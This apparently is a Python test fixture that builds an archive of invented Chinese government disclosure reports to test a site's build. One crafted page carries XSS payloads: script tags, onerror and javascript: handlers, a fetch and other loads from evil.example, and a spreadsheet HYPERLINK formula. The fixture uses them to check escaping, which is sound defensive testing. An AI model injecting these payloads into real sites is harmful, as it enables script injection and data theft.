"""An archive folder of invented reports, stored and built by the real thing, for the tests of the site."""

from __future__ import annotations

from typing import TYPE_CHECKING

from archive.build import build
from archive.captures import CaptureStore
from archive.layout import Layout
from archive.runs import RunRecord, SiteRun
from tests.support.exchanges import exchange
from tests.support.report_pages import report_page

if TYPE_CHECKING:
    from pathlib import Path

HOST = "http://xxgk.example.gov.cn"
AGENCIES = ("临江市医疗保障局", "临江市市场监督管理局", "青禾县人民政府办公室")
YEARS = {2020: "2019", 2022: "2021", 2023: "2021"}
"""Year of a report and the form it uses."""

WRONG_URL = f"{HOST}/1/2023.html"
WRONG = {
    "requests/results.total/total": "10",
    "requests/new_requests/other": "/",
    "requests/new_requests/legal_service_org": "",
    "requests/carried_over_in/other": "无",
    "proactive_disclosure/government_rules/in_force": "—",
}
OLD = {
    "proactive_disclosure/administrative_licensing/items_change": "+36",
    "proactive_disclosure/centralized_procurement/procurement_amount": "251000元",
}
LOST = {
    "reconsideration_and_litigation/litigation_direct/corrected": "2",
    "reconsideration_and_litigation/litigation_direct/upheld": "3",
    "reconsideration_and_litigation/litigation_direct/total": "5",
}
"""Lawsuits that agencies lost in 2022."""
HOSTILE_URL = f"{HOST}/hostile.html"
HOSTILE_CELL = "<img src=x onerror=alert(1)>"
HOSTILE_TITLE = "<script>alert(1)</script>恶意局2023年政府信息公开工作年度报告"
HOSTILE_TEXT = '&lt;b onmouseover=alert(1)&gt;粗&lt;/b&gt; \u202e倒写\u202c =HYPERLINK("http://evil.example")'
HOSTILE_TAIL = (
    b"<script>fetch('http://evil.example/s')</script><img src='http://evil.example/x.png' onerror='alert(1)'>"
    b"<iframe src='http://evil.example/'></iframe><svg onload='alert(1)'><a href='javascript:alert(1)'>x</a></svg>"
    b"<style>@import 'http://evil.example/a.css'; td{display:block;background:url(http://evil.example/b)}</style>"
    b"<form action='http://evil.example/'><input autofocus onfocus='alert(1)'></form><base href='http://evil.example/'>"
    b"<a href='javascript:alert(1)' onclick='alert(1)' style='position:fixed;inset:0'>x</a><meta http-equiv='refresh' content='0'>"
)
TEXT_URL = f"{HOST}/flat.txt"
FILE_URL = f"{HOST}/file.pdf"


def url_of(agency: int, year: int) -> str:
    return f"{HOST}/{agency}/{year}.html"


def pages() -> dict[str, bytes]:
    """Address to body of every report page."""
    found = {}
    for number, agency in enumerate(AGENCIES):
        for year, form in YEARS.items():
            changes = (
                WRONG if url_of(number, year) == WRONG_URL else OLD if form == "2019" else LOST if year == 2022 else {}
            )
            overview = f"{year}年，本机关主动公开政府信息{500 + number}条，{agency}稳步推进跨省直接结算。"
            title = f"{agency}{year}年政府信息公开工作年度报告"
            found[url_of(number, year)] = report_page(title, form, f"{year + 1}-01-22", changes, overview)
    changes = {"requests/new_requests/other": HOSTILE_CELL}
    hostile = report_page(HOSTILE_TITLE, "2021", "2024-01-23", changes, HOSTILE_TEXT)
    found[HOSTILE_URL] = hostile.replace(b"</body>", HOSTILE_TAIL + b"</body>")
    return found


def make_archive(folder: Path) -> Layout:
    """Capture the pages, record a run over four sites, and build."""
    layout = Layout(folder)
    title = "北山区2022年政府信息公开工作年度报告"
    with CaptureStore(layout, writable=True) as store:
        for minute, (url, body) in enumerate(pages().items()):
            store.write(exchange(url, body, minute))
        kind = (("Content-Type", "application/pdf"),)
        store.write(exchange(FILE_URL, b"%PDF-1.4 nothing", 60, link_text=title, response_headers=kind))
        plain = (("Content-Type", "text/plain; charset=utf-8"),)
        store.write(exchange(TEXT_URL, flat_text(), 61, response_headers=plain))
    sites = [
        SiteRun("临江市政府", HOST, state="ok"),
        SiteRun("北山区政府", "http://b.example/", state="declined", reason="首页返回 412 与脚本挑战"),
        SiteRun("南泽县政府", "http://c.example/", state="empty", reason="年报栏目为空"),
        SiteRun("javascript网", "javascript:alert(1)", state="unreachable", reason="<i>没有应答</i>"),
    ]
    record = RunRecord("20260131T080000Z", "2026-01-31T08:00:00Z", "2026-01-31T09:00:00Z", sites)
    record.save(layout.runs)
    rebuild(layout)
    return layout


def rebuild(layout: Layout) -> None:
    build(layout, full=True, workers=1, progress=lambda *_: None)


def flat_text() -> bytes:
    rows = "规章 | 3 | 1 | 25 |\n行政规范性文件 | 0 | 0 | 7 |\n"
    return (
        "林泉县民政局2021年政府信息公开工作年度报告\n一、总体情况\n本机关依法公开。\n二、主动公开政府信息情况\n"
        f"第二十条第（一）项 |\n信息内容 | 本年制发件数 | 本年废止件数 | 现行有效件数 |\n{rows}"
        "三、收到和处理政府信息公开申请情况\n四、政府信息公开行政复议、行政诉讼情况\n"
        "五、存在的主要问题及改进情况\n无\n六、其他需要报告的事项\n无\n2022年1月20日\n"
    ).encode()
